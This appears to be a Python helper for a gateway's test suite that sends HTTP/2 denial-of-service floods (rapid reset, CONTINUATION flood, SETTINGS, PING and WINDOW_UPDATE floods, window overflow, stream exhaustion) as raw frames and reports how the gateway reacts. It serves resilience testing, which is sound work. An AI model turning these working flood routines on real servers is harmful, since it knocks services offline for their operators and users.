"""HTTP/2 floods against the gateway, for tests/attacks/http2.rs.

    h2_attacks.py HOST PORT ATTACK [COUNT]

ATTACK is one of rapid_reset, continuation_flood, settings_flood,
ping_flood, window_update_flood, window_overflow, too_many_streams. Frames are built with
the `h2` package's framing layer (hyperframe, hpack) and written straight
to the socket, so nothing polices what is sent. Prints one JSON line:

    {"attack": ..., "sent": frames sent before the gateway stopped reading,
     "goaway": the GOAWAY error code or null, "closed": the gateway closed
     the connection, "refused": streams refused with RST_STREAM
     REFUSED_STREAM, "responses": HEADERS frames received, "seconds": ...}
"""

import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL, REFUSED_STREAM = 0x8, 0x7


class Conn:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.refused = 0
        self.responses = 0
        self.encoder = Encoder()
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, frame_bytes):
        """False once the gateway has stopped taking bytes."""
        if self.closed:
            return False
        try:
            self.sock.sendall(frame_bytes)
            return True
        except OSError:
            self.closed = True
            return False

    def headers(self, stream_id, path="/v1/users/1", end_headers=True, end_stream=True):
        block = self.encoder.encode(
            [
                (":method", "GET"),
                (":scheme", "http"),
                (":authority", "a"),
                (":path", path),
            ]
        )
        flags = []
        if end_headers:
            flags.append("END_HEADERS")
        if end_stream:
            flags.append("END_STREAM")
        frame = HeadersFrame(stream_id, block, flags=flags)
        return frame.serialize()

    def drain(self, wait=0.0):
        """Reads whatever the gateway sent, waiting up to `wait` for more."""
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        while not self.closed:
            try:
                data = self.sock.recv(1 << 16)
            except (BlockingIOError, socket.timeout):
                break
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.buf += data
            self._frames()

    def _frames(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame) and frame.error_code == REFUSED_STREAM:
                self.refused += 1
            elif isinstance(frame, HeadersFrame):
                self.responses += 1
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())


def rapid_reset(conn, count):
    sent = 0
    for i in range(count):
        stream_id = 1 + 2 * i
        if not conn.send(conn.headers(stream_id) + RstStreamFrame(stream_id, CANCEL).serialize()):
            break
        sent += 1
        if i % 100 == 0:
            conn.drain()
    return sent


def continuation_flood(conn, count):
    # One HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB
    # literal headers that never end the block.
    if not conn.send(conn.headers(1, end_headers=False)):
        return 0
    block = Encoder().encode([("x-flood", "a" * 16000)])
    sent = 0
    for _ in range(count):
        if not conn.send(ContinuationFrame(1, block).serialize()):
            break
        sent += 1
        if sent % 50 == 0:
            conn.drain()
    return sent


def settings_flood(conn, count):
    return _flood(conn, count, lambda _: SettingsFrame(0, settings={0x4: 65535}).serialize())


def ping_flood(conn, count):
    return _flood(conn, count, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())


def window_update_flood(conn, count):
    return _flood(conn, count, lambda _: WindowUpdateFrame(0, window_increment=1).serialize())


def window_overflow(conn, count):
    # Increments that push the connection window past 2^31 - 1.
    return _flood(conn, min(count, 4), lambda _: WindowUpdateFrame(0, window_increment=1 << 30).serialize())


def _flood(conn, count, frame):
    sent = 0
    batch = []
    for i in range(count):
        batch.append(frame(i))
        if len(batch) == 500:
            if not conn.send(b"".join(batch)):
                return sent
            sent += len(batch)
            batch = []
            conn.drain()
    if batch and conn.send(b"".join(batch)):
        sent += len(batch)
    return sent


def too_many_streams(conn, count):
    # Streams whose request never ends (no END_STREAM): each stays open.
    sent = 0
    for i in range(count):
        if not conn.send(conn.headers(1 + 2 * i, path="/v1/orders", end_stream=False)):
            break
        sent += 1
        if sent % 50 == 0:
            conn.drain()
    return sent


def main():
    host, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 10000
    conn = Conn(host, port)
    started = time.monotonic()
    sent = globals()[attack](conn, count)
    conn.drain(wait=1.0)
    print(
        json.dumps(
            {
                "attack": attack,
                "sent": sent,
                "goaway": conn.goaway,
                "closed": conn.closed,
                "refused": conn.refused,
                "responses": conn.responses,
                "seconds": round(time.monotonic() - started, 3),
            }
        )
    )


if __name__ == "__main__":
    main()
